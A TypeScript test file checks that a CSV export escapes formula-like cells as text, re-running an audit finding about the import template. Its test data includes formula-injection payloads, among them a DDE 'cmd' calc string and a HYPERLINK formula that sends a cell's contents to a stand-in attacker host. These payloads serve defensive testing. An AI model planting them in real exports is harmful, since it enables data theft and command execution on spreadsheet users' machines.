/** Issue 22, finding 8: CSV cells that a spreadsheet would run as a formula are written as text. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../test/test-app.ts';
import { csvCell, toCsv } from './csv.ts';

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://x.example","Bấm")', `"'=HYPERLINK(""http://x.example"",""Bấm"")"`],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ['-2+3+cmd|x', `"'-2+3+cmd|x"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['-5', '"-5"'],
    ['-3,5', '"-3,5"'],
    ['+84912345678', '"+84912345678"'],
    ['Tỷ lệ hồ sơ = 80%', '"Tỷ lệ hồ sơ = 80%"'],
    [null, '""'],
    [42, '"42"'],
  ])('%j → %s', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });
  it('writes a UTF-8 file with a byte-order mark and CRLF lines', () => {
    expect(
      toCsv([
        ['a', '=b'],
        ['c', 'd'],
      ]).toString('utf8'),
    ).toBe(`\uFEFF"a";"'=b"\r\n"c";"d"\r\n`);
  });
});

describe('the import template as CSV (the finding, re-run)', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await buildTestApp();
  });
  afterAll(() => t.close());

  it('writes a target named =HYPERLINK(…) as text', async () => {
    const officer = await t.signIn('vinhbao.vanhoa');
    const admin = await t.signIn('admin');
    const commune = (await t.request(admin, { method: 'GET', url: '/api/v1/org/by-code/11824' })).json().id;
    const plan = (await t.request(officer, { method: 'GET', url: `/api/v1/plans?communeId=${commune}` })).json()
      .items[0];
    const evil = '=HYPERLINK("http://attacker.example/?d="&A1,"Xem hướng dẫn")';
    const added = await t.request(officer, {
      method: 'POST',
      url: `/api/v1/plans/${plan.id}/targets`,
      payload: { text: evil, comparator: '>=', value: 50, unit: '%', year: 2026 },
    });
    expect(added.statusCode).toBe(201);
    const csv = await t.request(officer, {
      method: 'GET',
      url: `/api/v1/dashboards/imports/template?format=csv&communeId=${commune}`,
    });
    expect(csv.statusCode).toBe(200);
    const cells = csv.body.split('\r\n').flatMap((line) => line.split(';'));
    expect(cells.some((c) => c.startsWith('"='))).toBe(false);
    expect(cells).toContain(`"'${evil.replace(/"/g, '""')}"`);
  });
});
